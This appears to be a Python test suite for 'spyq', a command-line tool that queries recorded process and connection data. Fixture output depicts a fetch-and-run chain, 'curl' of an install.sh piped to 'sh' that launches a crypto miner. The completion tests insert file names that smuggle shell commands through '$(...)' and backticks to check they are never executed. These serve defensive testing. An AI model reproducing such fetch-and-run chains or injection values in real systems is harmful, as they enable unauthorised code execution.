# SPDX-License-Identifier: GPL-3.0-or-later
"""Options, verbs, TARGETs and exit codes."""
import json
import os
import re
import signal
import sqlite3
import subprocess
import time
import unittest

import support
from support import ENDLESS, environment, make_store, path, spyq, store


def verbs():
    """Those that --help lists, one or two on a line."""
    text = spyq("--help", on="").stdout.decode()
    return set(re.findall(r"(?m)^  ([a-z][a-z-]+) ", text)) | set(re.findall(r"(?m)^.{40}  ([a-z][a-z-]+) ", text))


class CommandLine(unittest.TestCase):
    def usage(self, words, *arguments, **options):
        result = spyq(*arguments, **options)
        self.assertEqual((result.returncode, result.stdout), (2, b""), arguments)
        self.assertIn(words.encode(), result.stderr)

    def test_help_fits_a_screen_and_names_every_verb(self):
        result = spyq("--help", on="")
        lines = result.stdout.decode().splitlines()
        self.assertEqual((result.returncode, result.stderr), (0, b""))
        self.assertLess(len(lines), 24)
        self.assertLessEqual(max(map(len, lines)), 79)
        for word in ("ps", "tree", "path", "traces", "status", "schema", "help", "--store", "--table", "--line",
                     "--csv", "--csv-safe", "--json", "--jsonl", "--markdown", "--raw-times", "-o", "-f",
                     "--since", "--until", "--at", "--timeout", "--fail-if-stale"):
            self.assertRegex(result.stdout.decode(), rf"(?m)(^| |\[){re.escape(word)}\b")
        self.assertLess({"ps", "tree", "status"}, verbs())

    def test_version(self):
        self.assertRegex(spyq("--version", on="").stdout.decode(), r"^spyq \d+\.\d+\.\d+ \(SQLite")

    def test_help_needs_no_store(self):
        for words in (["help"], ["help", "tree"], ["tree", "--help"]):
            result = spyq(*words, on=path("none.db"))
            self.assertEqual((result.returncode, result.stderr), (0, b""))
        self.assertIn(b"'help targets' tells", result.stdout)

    def test_help_of_options(self):
        result = spyq("help", "options", on=path("none.db"))
        self.assertEqual((result.returncode, result.stderr), (0, b""))
        short = spyq("--help", on="").stdout.decode()
        self.assertEqual(set(re.findall(r"--[a-z-]+", result.stdout.decode())),
                         set(re.findall(r"--[a-z-]+", short)))
        self.assertLessEqual(max(map(len, result.stdout.decode().splitlines())), 79)

    def test_help_of_targets(self):
        result = spyq("help", "targets", on=path("none.db"))
        self.assertEqual((result.returncode, result.stderr), (0, b""))
        text = result.stdout.decode()
        self.assertLessEqual(max(map(len, text.splitlines())), 79)
        page = support.read_text("docs/spyq.1").replace(" Ns ", "").replace("Ar ", "")
        page = page.replace("Cm ", "").replace("\\&", "")
        for form in re.findall(r"(?m)^  (\S+) ", text):
            self.assertIn(f"\n.It {form}\n".replace("03:12", "time"), page)

    def test_unknown_words(self):
        self.usage("unknown option --jsn; did you mean --json?", "--jsn", "SELECT 1")
        self.usage("unknown option -x; see spyq --help", "-x")
        self.usage("unknown verb 'sttus'; did you mean status?", "sttus")
        self.usage("unknown verb 'frobnicate'; spyq help lists them", "frobnicate")
        self.usage("unknown verb 'x\\x1b[2J'", "x\x1b[2J")

    def test_prefixes(self):
        self.usage("'s' could be story, snapshot, salvage, suppress, status or schema", "s")
        self.assertEqual(spyq("sch").stdout, spyq("schema").stdout)

    def test_wrong_use(self):
        self.usage("quote the SQL", "select", "1")
        self.usage("usage: spyq tree TARGET", "tree")
        self.usage("usage: spyq tree TARGET", "tree", "1", "2")
        self.usage("--timeout takes a number of seconds", "--timeout", "soon", "SELECT 1")
        self.usage("--timeout takes a number of seconds", "--timeout", "-1", "SELECT 1")
        self.usage("--store needs a value", "--store", on="")
        self.usage("--json takes no value", "--json=1", "SELECT 1")
        self.usage("--since, --until and --at bound a verb", "--since", "1h", "SELECT 1")
        self.usage("--at means nothing to tree", "tree", "1", "--at", "03:12")
        self.usage("--since means nothing to schema", "schema", "--since", "1h")
        self.usage("--depth means nothing to ps", "ps", "--depth", "3")
        self.usage("--kinds is for a verb", "--kinds", "fork", "SELECT 1")
        for count in ("0", "-1", "x", "", "1x", "99999999999"):
            self.usage("--depth takes a number above 0", "path", "1", "2", f"--depth={count}")
        self.usage("exclude each other", "ps", "--at", "03:12", "--since", "1h")
        self.usage("exclude each other", "-f", "x.sql", "SELECT 1")
        self.usage("--since: ", "ps", "--since", "teatime")
        self.usage("is before --since", "ps", "--since", "2026-01-02", "--until", "2026-01-01")
        self.usage("is for the prompt", "quit")

    def test_options_anywhere_and_in_every_form(self):
        expected = spyq("--json", "SELECT 1 AS a").stdout
        self.assertEqual(spyq("SELECT 1 AS a", "--json").stdout, expected)
        self.assertEqual(spyq("--json", "--", "SELECT 1 AS a").stdout, expected)
        self.assertEqual(spyq(f"--store={store()}", "--json", "SELECT 1 AS a", on="").stdout,
                         expected)
        spyq("--json", "-o" + path("short"), "SELECT 1 AS a")
        with open(path("short"), "rb") as file:
            self.assertEqual(file.read(), expected)

    def test_store_from_the_environment(self):
        result = spyq("SELECT 1 AS a", on="", env=environment(SPYQ_STORE=store()))
        self.assertEqual((result.returncode, result.stdout), (0, b"a\n1\n"))
        result = spyq("SELECT 1", on=store(), env=environment(SPYQ_STORE=path("none")))
        self.assertEqual(result.returncode, 0)

    def test_default_store(self):
        if os.path.exists("/var/lib/spyq/spyq.db"):
            self.skipTest("this host has a store of its own")
        result = spyq("SELECT 1", on="")
        self.assertEqual(result.returncode, 3)
        self.assertIn(b"/var/lib/spyq/spyq.db", result.stderr)

    def test_standard_input(self):
        result = spyq(stdin="SELECT 1 AS a;\n\nSELECT\n 2 AS b -- ; no end\n;\nSELECT ';' AS c")
        self.assertEqual((result.returncode, result.stdout), (0, b"a\n1\nb\n2\nc\n;\n"))
        self.assertEqual(spyq(stdin="").returncode, 0)

    def test_commands_in_a_script(self):
        result = spyq(stdin=".mode json\nSELECT 1 AS a;\n.quit\nSELECT 2;\n")
        self.assertEqual((result.returncode, result.stdout), (0, b'[{"a": 1}]\n'))

    def test_file(self):
        with open(path("q.sql"), "w", encoding="ascii") as file:
            file.write("SELECT 1 AS a;\n\n\nSELECT nope\n  FROM hosts;\nSELECT 3;\n")
        result = spyq("-f", path("q.sql"))
        self.assertEqual((result.returncode, result.stdout), (1, b"a\n1\n"))
        self.assertEqual(result.stderr.decode(), f"spyq: {path('q.sql')}:4: no such column: nope\n"
                         "  SELECT nope\n         ^\n")
        self.assertEqual(spyq("-f", path("none.sql")).returncode, 1)

    def test_nul_in_a_script(self):
        result = spyq(stdin=b"SELECT 1\0;\n")
        self.assertEqual(result.returncode, 1)
        self.assertIn(b"stdin:1: a NUL byte", result.stderr)

    def test_caret(self):
        result = spyq("SELECT id, '\u65e5', nope FROM hosts")
        self.assertEqual(result.returncode, 1)
        self.assertEqual(result.stderr.decode(), (
            "spyq: no such column: nope\n"
            "  SELECT id, '日', nope FROM hosts\n"
            "                   ^\n"))

    def test_suggestions(self):
        """What was written with a ^ before the place that is at fault, and what is said of it."""
        for sql, words in {
                "select ^pidd from processes": "no such column: pidd; did you mean pid?",
                "select a.id, ^b.exee from execs a, execs b": "did you mean exe?",
                "select ^ccc.exe from execs as cc": "no such column: ccc.exe; did you mean cc?",
                "select ^zzz.exe from execs": "no table here is called zzz",
                "select ^remote_name from processes": "it is in connections and open_connections\n",
                "select (select ^comn from processes) from hosts": "did you mean comm?",
                "select * from execs, ^conections c": "no such table: conections; "
                                                      "did you mean connections?",
                "select * from ^ancestor(1)": "did you mean ancestors?",
                "select ^agoo('1h')": "no such function: agoo; did you mean ago()?",
                "^selct 1;": "syntax error; did you mean SELECT?",
                "select comm ^form processes": "did you mean FROM?",
                "select comm from processes ^whree pid = 1": "did you mean WHERE?",
                "select comm, ^from processes": 'near "from": syntax error\n',
                "select ^'a": "unrecognized token: \"'a; a quote is left open"}.items():
            with self.subTest(sql=sql):
                result = spyq(sql.replace("^", ""))
                self.assertEqual((result.returncode, result.stdout), (1, b""))
                text = result.stderr.decode()
                self.assertIn(words, text)
                self.assertEqual(text.splitlines()[1:],
                                 ["  " + sql.replace("^", ""), "  " + " " * sql.index("^") + "^"])

    def test_caret_in_a_long_line(self):
        result = spyq("SELECT " + "1 + " * 100 + "nope" + " + 1" * 100)
        lines = result.stderr.decode().splitlines()
        self.assertLess(len(lines[1]), 80)
        self.assertEqual(lines[1][lines[2].index("^"):][:4], "nope")

    def test_errors_are_escaped(self):
        result = spyq('SELECT "\x1b[31m\u202e" + FROM hosts')
        self.assertEqual(result.returncode, 1)
        self.assertNotIn(b"\x1b", result.stderr)
        result = spyq("tree", "exe:\x1b[2J")
        self.assertEqual(result.returncode, 1)
        self.assertIn(b"matches exe:\\x1b[2J", result.stderr)

    def test_parameters_are_not_null_by_accident(self):
        result = spyq("SELECT :name")
        self.assertEqual(result.returncode, 1)
        self.assertIn(b"nothing gives the parameter :name a value", result.stderr)


class Stopping(unittest.TestCase):
    def test_timeout(self):
        start = time.monotonic()
        result = spyq("--timeout", "0.3", ENDLESS)
        self.assertEqual((result.returncode, result.stdout), (4, b""))
        self.assertIn(b"timed out after 0.3 s", result.stderr)
        self.assertGreaterEqual(time.monotonic() - start, 0.3)

    def stop_with(self, number):
        """Sends a signal once the query runs: when it has used some processor time."""
        target = path("stopped")
        process = subprocess.Popen([support.program, "--store", store(), "-o", target, ENDLESS],
                                   stderr=subprocess.PIPE, env=environment())
        try:
            while support.processor_time(process.pid) < 10:
                self.assertIsNone(process.poll())
            process.send_signal(number)
            message = process.communicate(timeout=support.TIMEOUT)[1]
        finally:
            process.kill()
            process.communicate()
        self.assertEqual([name for name in os.listdir(support.directory)
                          if name.startswith("stopped")], [])
        return process.returncode, message

    def test_interrupt(self):
        code, message = self.stop_with(signal.SIGINT)
        self.assertEqual((code, message), (4, b"spyq: interrupted\n"))

    def test_terminate(self):
        self.assertEqual(self.stop_with(signal.SIGTERM)[0], 4)


class Stale(unittest.TestCase):
    def store_with(self, name, last_seen="now", ended=None, pid=None, boot_id=None):
        made = make_store(name)
        db = sqlite3.connect(made)
        now = time.time_ns()
        seen = {"now": now, "long ago": now - 11 * 10**9}[last_seen]
        db.execute("INSERT INTO recorders (id, host_id, pid, version, started_at, last_seen_at, "
                   "ended_at) VALUES (2, 1, ?, '0.1.0', ?, ?, ?)",
                   (pid or os.getpid(), now - 60 * 10**9, seen, ended and now))
        if boot_id:
            db.execute("UPDATE hosts SET boot_id = ?", (boot_id,))
        db.commit()
        db.close()
        return made

    def check(self, code, words, name):
        result = spyq("--fail-if-stale", "SELECT 1 AS a", on=name)
        self.assertEqual(result.returncode, code, result.stderr)
        self.assertEqual(result.stdout, b"a\n1\n" if code == 0 else b"")
        self.assertIn(words.encode(), result.stderr)

    def boot_id(self):
        with open("/proc/sys/kernel/random/boot_id", encoding="ascii") as file:
            return file.read().strip()

    def gone(self):
        process = subprocess.Popen(["true"])
        process.wait()
        return process.pid

    def test_writing(self):
        self.check(0, "", self.store_with("s1.db", boot_id=self.boot_id()))

    def test_silent(self):
        self.check(6, "no sign of life for 10 s", self.store_with("s2.db", last_seen="long ago"))

    def test_ended(self):
        self.check(6, "it was stopped", self.store_with("s3.db", ended=True))

    def test_process_gone(self):
        self.check(6, "its process is gone",
                   self.store_with("s4.db", pid=self.gone(), boot_id=self.boot_id()))

    def test_pid_of_another_boot_tells_nothing(self):
        self.check(0, "", self.store_with("s5.db", pid=self.gone()))

    def test_never(self):
        self.check(6, "it never ran on this store", make_store("s6.db", fixture=False))

    def test_without_the_option_old_data_is_fine(self):
        self.assertEqual(spyq("SELECT 1", on=store()).returncode, 0)


class Verbs(unittest.TestCase):
    def rows(self, *arguments, code=0, stderr=""):
        result = spyq("--json", *arguments)
        self.assertEqual(result.returncode, code, result.stderr)
        if stderr is not None:
            self.assertIn(stderr.encode(), result.stderr)
        return json.loads(result.stdout) if result.stdout else []

    def ids(self, *arguments):
        return [row["id"] for row in self.rows(*arguments)]

    def test_ps_now(self):
        rows = self.rows("ps", stderr="as of 2026-11-22T04:00:00Z; not recording now")
        self.assertEqual([row["id"] for row in rows], [1, 2, 3, 4, 5, 6, 11])
        self.assertEqual(rows[4], {
            "id": 5, "pid": 812, "ppid": 400, "user": "root",
            "started_at": "2026-11-22T03:05:00.000000000Z", "comm": "sshd",
            "cmdline": "sshd: ana [priv]"})

    def test_ps_then(self):
        self.assertEqual(self.ids("ps", "--at", "2026-11-22 03:12:05"), [1, 2, 3, 4, 5, 6, 8])
        self.assertEqual(self.ids("ps", "--at", "2026-11-22 02:00:30"), [1])
        self.assertEqual(self.ids("ps", "--at", "2026-11-21"), [])

    def test_ps_between(self):
        self.assertEqual(
            self.ids("ps", "--since", "2026-11-22 03:13:00", "--until", "2026-11-22 03:31:00"),
            [1, 2, 3, 4, 5, 6, 8, 10])

    def test_tree(self):
        rows = self.rows("tree", "8")
        self.assertEqual([(row["id"], row["depth"], row["relation"]) for row in rows], [
            (1, 0, "ancestor"), (2, 1, "ancestor"), (5, 2, "ancestor"), (6, 3, "ancestor"),
            (8, 4, "target"), (9, 5, "descendant")])

    def test_tree_drawn(self):
        result = spyq("--table", "tree", "6")
        self.assertEqual(result.stdout.decode(), (
            "  id  pid  user  state     process\n"
            "   1    1  root  alive     init  /sbin/init\n"
            "   2  400  root  alive     └─ sshd  sshd: /usr/sbin/sshd -D\n"
            "   5  812  root  alive        └─ sshd  sshd: ana [priv]\n"
            ">  6  815  ana   alive           └─ bash  -bash\n"
            "   7  900  ana   exit 0             ├─ curl  curl -s "
            "https://example.org/install.sh\n"
            "   8  901  ana   exit 1             ├─ sh  sh\n"
            "   9  910  ana   signal 9           │  └─ miner  /tmp/miner --pool "
            "203.0.113.9:3333 --quiet\n"
            "  10  900  ana   exit 0             └─ curl  curl -sI http://10.0.0.5/\n"
            "8 processes; > marks the one asked for\n"))

    def test_tree_in_ascii(self):
        result = spyq("--table", "tree", "8", env=environment(LC_ALL="C"))
        self.assertIn(b"`- sh  sh\n", result.stdout)
        result.stdout.decode("ascii")

    def test_tree_in_a_span(self):
        rows = self.rows("tree", "6", "--since", "2026-11-22 03:12:20", "--until",
                         "2026-11-22 03:12:25")
        self.assertEqual([row["id"] for row in rows], [1, 2, 5, 6, 8, 9])

    def test_tree_keeps_the_dead_between(self):
        """8 ended before its child would have in this store; the child is still reached."""
        name = make_store("orphan.db")
        db = sqlite3.connect(name)
        db.execute("UPDATE processes SET ended_at = NULL WHERE id = 9")
        db.commit()
        db.close()
        result = spyq("--json", "tree", "6", "--since", "2026-11-22 03:50", on=name)
        self.assertEqual([row["id"] for row in json.loads(result.stdout)], [1, 2, 5, 6, 8, 9])

    def test_tree_of_a_store_that_lies(self):
        name = make_store("cycle.db")
        db = sqlite3.connect(name)
        db.execute("UPDATE processes SET parent_id = 9 WHERE id = 6")
        db.execute("UPDATE processes SET parent_id = 1 WHERE id = 1")
        db.commit()
        db.close()
        for target in ("6", "9", "1"):
            result = spyq("--json", "tree", target, "--timeout", "10", on=name)
            self.assertEqual((result.returncode, result.stderr), (0, b""))
            ids = [row["id"] for row in json.loads(result.stdout)]
            self.assertIn(int(target), ids)
            self.assertEqual(len(ids), len(set(ids)))

    def test_status(self):
        facts = {(row["section"], row["name"]): row["value"] for row in self.rows("status")}
        self.assertEqual(facts["recorder", "state"], "not writing")
        self.assertEqual(facts["recorder", "why"], "it was stopped")
        self.assertEqual(facts["recorder", "pid"], 700)
        self.assertEqual(facts["host", "hostname"], "web1")
        self.assertEqual(facts["store", "bytes"], os.stat(store()).st_size)
        self.assertEqual(facts["store", "time_span"], "1h 00m")
        self.assertEqual(facts["rows", "processes"], 11)
        self.assertEqual(facts["rows", "connections"], 8)
        self.assertEqual(facts["lost, ever", "network/ring"], 42)
        self.assertEqual(facts["lost, ever", "down/recorder"], "unknown")
        self.assertEqual(facts["probes", "attached"], 2)
        self.assertEqual(facts["probes", "base tier"], "2 of 3")
        written = max(os.stat(store() + log).st_mtime_ns for log in ("", "-wal")
                      if os.path.exists(store() + log) and os.path.getsize(store() + log))
        raw = {row["name"]: row["value"] for row in self.rows("status", "--raw-times")}
        self.assertEqual(raw["written_at"], written)
        self.assertEqual(facts["recorder", "late_records"], 3)
        self.assertEqual(facts["probes", "inet_csk_accept"], "no such function in this kernel")

    def test_status_of_a_large_store_estimates_what_takes_long_to_count(self):
        name = make_store("large.db")
        db = sqlite3.connect(name)
        db.execute("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 400000) "
                   "INSERT INTO losses (id, started_at, ended_at, class, stage) "
                   "SELECT 100 + i, i, i, 'down', 'recorder' FROM n WHERE i < 3 OR i > 250000 AND i % 2")
        db.commit()
        counted = db.execute("SELECT count(*) FROM losses").fetchone()[0]
        db.close()
        facts = {(row["section"], row["name"]): row["value"]
                 for row in json.loads(spyq("--json", "status", on=name).stdout)}
        self.assertNotIn(("rows", "losses"), facts)
        self.assertAlmostEqual(facts["rows, about", "losses"] / counted, 1, delta=0.05)
        self.assertEqual(facts["rows", "processes"], 11)

    def test_status_of_the_last_day(self):
        name = make_store("today.db")
        db = sqlite3.connect(name)
        now, day = time.time_ns(), 86400 * 10**9
        db.execute("UPDATE losses SET started_at = started_at - ?, ended_at = ended_at - ?",
                   (30 * day, 30 * day))
        db.execute("INSERT INTO losses (id, started_at, ended_at, class, stage, count) "
                   "VALUES (9, ?, ?, 'network', 'ring', 5)", (now, now))
        db.commit()
        db.close()
        facts = {(row["section"], row["name"]): row["value"]
                 for row in json.loads(spyq("--json", "status", on=name).stdout)}
        self.assertEqual(facts["lost, 24 h", "network/ring"], 5)
        self.assertNotIn(("lost, 24 h", "down/recorder"), facts)
        self.assertEqual(facts["lost, ever", "network/ring"], 47)

    def test_status_of_a_span(self):
        facts = {(row["section"], row["name"]): row["value"] for row in self.rows(
            "status", "--since", "2026-11-22T03:14", "--until", "2026-11-22T03:20")}
        self.assertEqual(facts["lost, asked", "network/ring"], 30)
        self.assertNotIn(("lost, asked", "down/recorder"), facts)
        self.assertEqual(facts["lost, ever", "network/ring"], 42)

    def test_status_of_an_empty_store(self):
        result = spyq("--table", "status", on=make_store("bare.db", fixture=False))
        self.assertEqual((result.returncode, result.stderr), (0, b""))
        self.assertIn(b"it never ran on this store", result.stdout)

    def test_schema_tells_what_every_column_means(self):
        db = sqlite3.connect(make_store("schema.db", fixture=False))
        names = [name for (name,) in db.execute(
            "SELECT name FROM sqlite_schema WHERE type IN ('table', 'view') ORDER BY name")
            if not name.endswith("_rows") and name not in ("strings", "contexts", "images")]
        user = sqlite3.connect(":memory:")
        user.executescript(support.read_text("sql/user.sql"))
        owners = {**dict.fromkeys(names, db), "pins": user, "suppressions": user}
        names = sorted(owners)
        listed = json.loads(spyq("--json", "schema", on=path("schema.db")).stdout)
        self.assertEqual(sorted(row["name"] for row in listed), names)
        for row in listed:
            self.assertTrue(row["meaning"], row)
        for name in names:
            columns = [column for _, column, *_ in
                       owners[name].execute(f"PRAGMA table_info({name})")]
            rows = json.loads(spyq("--json", "schema", name, on=path("schema.db")).stdout)
            self.assertEqual([row["column"] for row in rows], columns)
            for row in rows:
                self.assertTrue(row["meaning"], (name, row))
        db.close()
        user.close()

    def test_schema_help_has_nothing_that_is_not_there(self):
        """Every name in the source's lists is a table, a view or a column."""
        db = sqlite3.connect(make_store("names.db", fixture=False))
        db.executescript(support.read_text("sql/user.sql"))
        known = {row[0] for row in db.execute("SELECT name FROM sqlite_schema")}
        known |= {row[0] for row in db.execute(
            "SELECT c.name FROM sqlite_schema AS s, pragma_table_info(s.name) AS c "
            "WHERE s.type IN ('table', 'view')")}
        db.close()
        named = set(re.findall(r'\{"([a-z_]+)", "', support.read_text("shell/schema_help.c")))
        self.assertGreater(len(named), 80)
        self.assertEqual(named - known, set())

    def test_schema_of_no_table(self):
        result = spyq("schema", "proceses")
        self.assertEqual((result.returncode, result.stdout), (1, b""))
        self.assertIn(b"no table or view 'proceses'; did you mean processes?", result.stderr)


class Manual(unittest.TestCase):
    def test_it_has_every_option_verb_and_exit_status(self):
        text = spyq("--help", on="").stdout.decode()
        page = support.read_text("docs/spyq.1")
        for option in sorted(set(re.findall(r"--([a-z-]+)", text)) | {"help", "version"}):
            self.assertRegex(page, rf"(?m)^\.It .*Fl -{option}\b", option)
        for verb in verbs():
            self.assertRegex(page, rf"(?m)^\.It Cm {verb}\b", verb)
        for command in ("mode", "quit"):
            self.assertRegex(page, rf"(?m)^\.It Ic \.{command}\b", command)
        for number in re.findall(r"STATUS_\w+ = (\d)", support.read_text("shell/status.h")):
            self.assertRegex(page, rf"(?m)^\.It {number}$")


class Completion(unittest.TestCase):
    def complete(self, *words, breaks=" "):
        script = ('source "$1"; shift; COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); '
                  f'COMP_WORDBREAKS="{breaks}"; _spyq; printf "%s\\n" "${{COMPREPLY[@]}}"')
        result = subprocess.run(
            ["bash", "-c", script, "bash",
             os.path.join(support.TOP, "packaging/completion/spyq"), *words],
            capture_output=True, text=True, check=True)
        return result.stdout.split()

    def test_it_knows_every_option_and_verb(self):
        text = spyq("--help", on="").stdout.decode()
        options = set(re.findall(r"--[a-z-]+", text)) | {"--help", "--version"}
        self.assertEqual(set(self.complete("spyq", "--")), options)
        self.assertEqual(set(self.complete("spyq", "")), verbs())

    def test_what_the_store_says(self):
        ask = (support.program, "--store", store())
        self.assertEqual(self.complete(*ask, "tree", "exe:ngi"), ["exe:nginx"])
        self.assertEqual(self.complete(*ask, "tree", "exe:ngi", breaks=" :"), ["nginx"])
        self.assertEqual(self.complete(*ask, "tree", "exe:/opt"), ["exe:/opt/odd/curl"])
        self.assertEqual(set(self.complete(*ask, "why", "pid:81")), {"pid:812", "pid:815"})
        self.assertEqual(self.complete(*ask, "why", "file:/tmp/m"), ["file:/tmp/miner"])
        self.assertEqual(set(self.complete(*ask, "schema", "host")), {"hosts", "hostile"})

    def test_names_that_mean_something_to_a_shell_are_not_offered(self):
        name = make_store("bash.db")
        db = sqlite3.connect(name)
        proof = path("executed")
        for exe in (f"/tmp/a$(touch${{IFS}}{proof})", f"/tmp/a`touch {proof}`", "/tmp/a;b", "/tmp/a b",
                    "/tmp/a\x1b[31m", "/tmp/a'", "/tmp/a\nb", "/tmp/aaa"):
            db.execute("INSERT INTO processes (id, host_id, pid, started_at, exe, origin) "
                       "SELECT max(id) + 1, 1, 99, max(started_at), ?, 'event' FROM processes", (exe,))
        db.commit()
        db.close()
        self.assertEqual(self.complete(support.program, "--store", name, "tree", "exe:a"), ["exe:aaa"])
        self.assertFalse(os.path.exists(proof))

    def test_it_completes(self):
        self.assertEqual(self.complete("spyq", "--json", "sta"), ["status"])
        self.assertEqual(self.complete("spyq", "tree", "p"), ["pid:"])
        self.assertEqual(self.complete(support.program, "run", "root-"), ["root-gained"])
        self.assertEqual(self.complete(support.program, "run", "uploads", "--param", "by"),
                         ["bytes="])
        self.assertIn("processes", self.complete("spyq", "schema", "proc"))
        with open(path("lonely.sql"), "w", encoding="ascii"):
            pass
        self.assertEqual(self.complete("spyq", "-f", path("lone")), [path("lonely.sql")])


if __name__ == "__main__":
    unittest.main()
